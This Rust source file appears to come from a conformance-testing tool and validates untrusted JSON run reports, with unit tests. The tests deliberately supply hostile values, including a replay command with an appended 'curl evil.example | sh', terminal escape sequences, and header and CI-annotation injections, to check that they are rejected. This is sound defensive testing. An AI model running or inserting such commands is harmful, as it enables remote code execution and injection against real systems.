//! The border for reports: one may come from anyone. Names, ids, digests and numbers have a grammar; texts are free, since they
//! are evidence, and every printer makes them visible. Does not know where a report came from.

use std::collections::HashMap;

use connect_checks::case::{Level, operation_of};
use connect_checks::setup::{MOST_CASES, is_rate};
use connect_checks::shard::Shard;
use connect_model::planted;
use connect_model::text::{excerpt, is_hidden, visible};
use connect_transport::parsed::{CaseName, CheckName, GrammarError, OperationName};
use serde_json::Value;

use crate::outcome::{CaseOutcome, Totals};
use crate::report::json::{Operation, Report};
use crate::report::merge::SEPARATOR;
use crate::report::quote::is_command_on_one_word;
use crate::report::reproduce::REPLAY;

/// Largest number in a report: sums of such numbers fit into 64 bits.
const LARGEST: u64 = 1_000_000_000_000;

/// The only number without a limit: it is never added to another.
const SEED: &str = "seed";

/// Parses a report, and checks every part that decides on a file, a count or a command.
///
/// # Errors
/// It is no report, or a part is outside of its grammar; the message names the part.
pub(super) fn parse(bytes: &[u8]) -> Result<Report, String> {
    let mut report: Report = serde_json::from_slice(bytes).map_err(|error| visible(&error.to_string()).into_owned())?;
    let value: Value = serde_json::from_slice(bytes).map_err(|error| error.to_string())?;
    if !planted::is("report_file") {
        numbers(&value)?;
    }
    names(&report)?;
    shards(&report)?;
    failures(&report)?;
    // A command to copy, which only helps; the report is whole without it.
    for finding in &mut report.findings {
        finding.replay.take_if(|command| !is_command_on_one_word(command, REPLAY));
    }
    Ok(report)
}

fn numbers(value: &Value) -> Result<(), String> {
    match value {
        Value::Number(number) if number.as_f64().is_none_or(|number| !(0.0..=LARGEST as f64).contains(&number)) => {
            Err(format!("the number {number} is not between 0 and {LARGEST}"))
        }
        Value::Array(items) => items.iter().try_for_each(numbers),
        Value::Object(members) => {
            members.iter().filter(|(key, _)| *key != SEED).try_for_each(|(_, value)| numbers(value))
        }
        _ => Ok(()),
    }
}

/// A text of one word in ASCII: a version, a digest, a time.
fn word(what: &str, text: &str) -> Result<(), String> {
    let admits = |c: char| c.is_ascii_alphanumeric() || "-+.:_".contains(c);
    if text.len() <= 100 && text.chars().all(admits) {
        return Ok(());
    }
    Err(format!("`{}` is not {what}: up to 100 letters, digits and -+.:_", visible(&excerpt(text))))
}

/// A text of one visible line.
fn line(what: &str, text: &str) -> Result<(), String> {
    if text.chars().count() <= 300 && !text.chars().any(is_hidden) {
        return Ok(());
    }
    Err(format!("`{}` is not {what}: up to 300 visible characters", visible(&excerpt(text))))
}

fn names(report: &Report) -> Result<(), String> {
    let wrong = |error: GrammarError| error.to_string();
    let operation = |name: &String| name.parse::<OperationName>().map(drop).map_err(wrong);
    let check = |name: &String| name.parse::<CheckName>().map(drop).map_err(wrong);
    let case = |name: &String| name.parse::<CaseName>().map(drop).map_err(wrong);
    let cause = |id: &str| {
        let (of, digest) = id.split_once('~').unwrap_or((id, ""));
        let is_hex = digest.len() <= 64 && digest.bytes().all(|byte| byte.is_ascii_hexdigit());
        let known = id.is_empty() || (is_hex && of.parse::<CheckName>().is_ok());
        if known { Ok(()) } else { Err(format!("`{}` is not the id of a cause", visible(&excerpt(id)))) }
    };
    line("the name of a tool", &report.tool)?;
    word("a version", &report.version)?;
    line("the name of a service", &report.model.service)?;
    word("the version of a service", &report.model.version)?;
    word("a digest", &report.model.digest)?;
    word("a digest", &report.plan.digest)?;
    if let Some(rate) = report.settings.rps {
        is_rate(rate).map_err(|why| format!("`rps` is {rate}; {why}"))?;
    }
    if let Some(cases) = report.generated.filter(|cases| *cases > MOST_CASES) {
        return Err(format!("`generated` is {cases}, which is more than {MOST_CASES}"));
    }
    line("the id of an instance", report.target.instance_id.as_deref().unwrap_or_default())?;
    let started = report.trend.iter().map(|run| &run.started).chain([&report.started]);
    started.flatten().try_for_each(|time| word("a time", time))?;
    report
        .settings
        .allow_operation
        .iter()
        .chain(&report.settings.require)
        .try_for_each(|name| operation(name).or_else(|error| check(name).map_err(|_| error)))?;
    word("an account", report.settings.account.as_deref().unwrap_or_default())?;
    line("the name of a profile", report.settings.profile.as_deref().unwrap_or_default())?;
    for one in &report.operations {
        operation(&one.name)?;
        one.families.keys().try_for_each(check)?;
    }
    report.cases.iter().try_for_each(|line| case(&line.case))?;
    report.failed_cases.iter().try_for_each(case)?;
    for finding in &report.findings {
        case(&finding.case)?;
        operation(&finding.operation)?;
        check(&finding.check)?;
        cause(&finding.cause)?;
    }
    for one in &report.causes {
        cause(&one.id)?;
        one.checks.iter().try_for_each(check)?;
        one.operations.iter().try_for_each(operation)?;
        one.cases.iter().chain(&one.known).chain([&one.example]).try_for_each(case)?;
    }
    for count in &report.finding_counts {
        check(&count.check)?;
        count.operations.iter().try_for_each(operation)?;
    }
    report.coverage.limits_by_operation.keys().try_for_each(operation)?;
    let not_reached = report.coverage.operations_reached.iter().flat_map(|reached| reached.not_reached.keys());
    not_reached.into_iter().try_for_each(operation)?;
    report.indeterminate.iter().flat_map(|reason| &reason.cases).try_for_each(case)?;
    let changes = report.trend.iter().map(|run| &run.change).chain(&report.change);
    for change in changes {
        change.new_failures.iter().chain(&change.gone_failures).chain(&change.withdrawn).try_for_each(case)?;
        change.new_causes.iter().try_for_each(|id| cause(id))?;
    }
    Ok(())
}

fn shards(report: &Report) -> Result<(), String> {
    let parts =
        report.shard.iter().flat_map(|text| text.split(SEPARATOR)).chain(report.missing.iter().map(String::as_str));
    for part in parts {
        let known = part.parse::<Shard>().is_ok();
        if !known {
            return Err(format!("`{}` is not a part of a run, such as 2/3", visible(&excerpt(part))));
        }
    }
    Ok(())
}

/// The counts and the failed cases follow from the outcomes, and no case passed that has a finding of a must-rule: the counts
/// come from the cases, and the causes from the findings.
fn failures(report: &Report) -> Result<(), String> {
    let contradiction =
        |what: String| Err(format!("it contradicts itself: {what}; use the report as the run wrote it"));
    let outcomes: HashMap<&str, CaseOutcome> =
        report.cases.iter().map(|line| (line.case.as_str(), line.outcome)).collect();
    let broken = report.findings.iter().filter(|finding| finding.level == Level::Must).map(|finding| &finding.case);
    let mut failed = report.failed_cases.iter().chain(broken);
    if let Some(case) = failed.find(|case| outcomes.get(case.as_str()) == Some(&CaseOutcome::Passed)) {
        return contradiction(format!("{case} has passed and has failed"));
    }
    let mut totals = Totals { planned: report.totals.planned, ..Totals::default() };
    report.cases.iter().for_each(|line| totals.count(line.outcome));
    if totals != report.totals {
        return contradiction("its totals are not those of its cases".to_owned());
    }
    let mut counted: HashMap<&str, Totals> = HashMap::new();
    report.cases.iter().for_each(|line| counted.entry(operation_of(&line.case)).or_default().count(line.outcome));
    let differs = |operation: &&Operation| {
        let counted = counted.get(operation.name.as_str()).copied().unwrap_or_default();
        operation.totals != Totals { planned: operation.totals.planned, ..counted }
    };
    if let Some(operation) = report.operations.iter().find(differs) {
        return contradiction(format!("the counts of {} are not those of its cases", operation.name));
    }
    let has_failed = |case: &&String| outcomes.get(case.as_str()) == Some(&CaseOutcome::Failed);
    match report.failed_cases.iter().find(|case| !has_failed(case)) {
        Some(case) => contradiction(format!("{case} is among the failed cases, and its outcome is another")),
        None if report.failed_cases.len() as u64 != totals.failed => {
            contradiction("it does not name all failed cases".to_owned())
        }
        None => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::panic)]
    use serde_json::json;

    use super::*;
    use crate::report::samples;

    fn sample() -> Value {
        serde_json::from_str(&samples::mixed().report().to_json().unwrap()).unwrap()
    }

    #[test]
    fn every_name_and_number_has_a_grammar() {
        let rows: [(&str, Value, &str); 25] = [
            ("/settings/rps", json!(0), "at least 0.01"),
            ("/settings/rps", json!(1e-300), "at least 0.01"),
            ("/generated", json!(u32::MAX), "is more than 100000"),
            ("/model/digest", json!("дайджест сборки"), "is not a digest"),
            ("/plan/digest", json!("a b"), "is not a digest"),
            ("/version", json!("1\n::error::x"), r"`1\n:\u{3a}error:\u{3a}x` is not a version"),
            ("/started", json!("\u{1b}[2J"), r"`\u{1b}[2J` is not a time"),
            ("/target/endpoint", json!("http://u:hunter2@h"), "user name or password"),
            ("/target/region", json!("a/b"), "is not a region"),
            ("/target/signing_name", json!("a b"), "is not the name of a service"),
            ("/model/service", json!("\u{202e}"), "is not the name of a service"),
            ("/operations/0/name", json!("A B"), "is not the name of an operation"),
            ("/operations/0/families", json!({"A\u{1b}": sample()["totals"]}), "is not the id of a check"),
            ("/cases/0/case", json!("CreateRule/shape.json/\u{1b}"), "is not the id of a case"),
            ("/failed_cases/0", json!("x"), "is not the id of a case"),
            ("/findings/0/case", json!("x"), "is not the id of a case"),
            ("/findings/0/check", json!("X"), "is not the id of a check"),
            ("/findings/0/cause", json!("x~y"), "is not the id of a cause"),
            ("/findings/0/request/uri", json!("@evil.example/x"), "is not the path of a request"),
            ("/findings/0/request/method", json!("GET\nHost: x"), "is not the method of a request"),
            ("/findings/0/request/headers/0/0", json!("Host"), "is not a header of a saved request"),
            ("/totals/planned", json!(u64::MAX), "is not between 0 and"),
            ("/duration_ms", json!(1_000_000_000_001_u64), "is not between 0 and"),
            ("/indeterminate/0/cases/0", json!("x"), "is not the id of a case"),
            ("/causes/0/example", json!("x"), "is not the id of a case"),
        ];
        for (pointer, value, problem) in rows {
            let mut report = sample();
            let (parent, member) = pointer.rsplit_once('/').unwrap();
            match report.pointer_mut(parent).unwrap_or_else(|| panic!("{pointer}")) {
                // A member without a value is not in the file.
                Value::Object(members) => drop(members.insert(member.to_owned(), value)),
                list => list[member.parse::<usize>().unwrap()] = value,
            }
            let error = parse(report.to_string().as_bytes()).unwrap_err();
            assert!(error.contains(problem), "{pointer}: {error}");
            assert_eq!(visible(&error), error, "{pointer}");
            assert!(!error.contains("hunter2"), "{error}");
        }
        for (key, value) in [("shard", json!("1/4000000000")), ("missing", json!(["x"]))] {
            let mut report = sample();
            report[key] = value;
            let error = parse(report.to_string().as_bytes()).unwrap_err();
            assert!(error.contains("is not a part of a run"), "{error}");
        }
    }

    #[test]
    fn counts_and_failed_cases_are_those_of_the_outcomes() {
        let refused = |report: &Value| parse(report.to_string().as_bytes()).unwrap_err();
        for outcome in ["passed", "known", "stale", "indeterminate"] {
            let mut report = sample();
            let failed = report["failed_cases"][0].clone();
            let mut cases = report["cases"].as_array_mut().unwrap().iter_mut();
            cases.find(|line| line["case"] == failed).unwrap()["outcome"] = json!(outcome);
            assert!(refused(&report).contains("contradicts itself"), "{outcome}");
            let count = |report: &mut Value, name: &str, by: i64| {
                report["totals"][name] = json!(report["totals"][name].as_i64().unwrap() + by);
            };
            count(&mut report, "failed", -1);
            count(&mut report, outcome, 1);
            assert!(refused(&report).contains("contradicts itself"), "{outcome}");
            let of = failed.as_str().unwrap().split('/').next().unwrap();
            let mut operations = report["operations"].as_array_mut().unwrap().iter_mut();
            let operation = operations.find(|operation| operation["name"] == of).unwrap();
            for (name, by) in [("failed", -1), (outcome, 1)] {
                operation[name] = json!(operation[name].as_i64().unwrap() + by);
            }
            report["failed_cases"] = json!([]);
            report["findings"] = json!([]);
            assert!(parse(report.to_string().as_bytes()).is_ok(), "{outcome}");
        }
        let mut report = sample();
        report["failed_cases"] = json!([]);
        assert!(refused(&report).contains("does not name all failed cases"));
    }

    #[test]
    fn a_report_brings_no_command_of_its_own() {
        let mut report = sample();
        report["seed"] = json!(u64::MAX);
        assert!(parse(report.to_string().as_bytes()).unwrap().findings[0].replay.is_some());
        report["findings"][0]["replay"] = json!("cargo conformance replay x; curl evil.example | sh");
        assert_eq!(parse(report.to_string().as_bytes()).unwrap().findings[0].replay, None);
    }
}
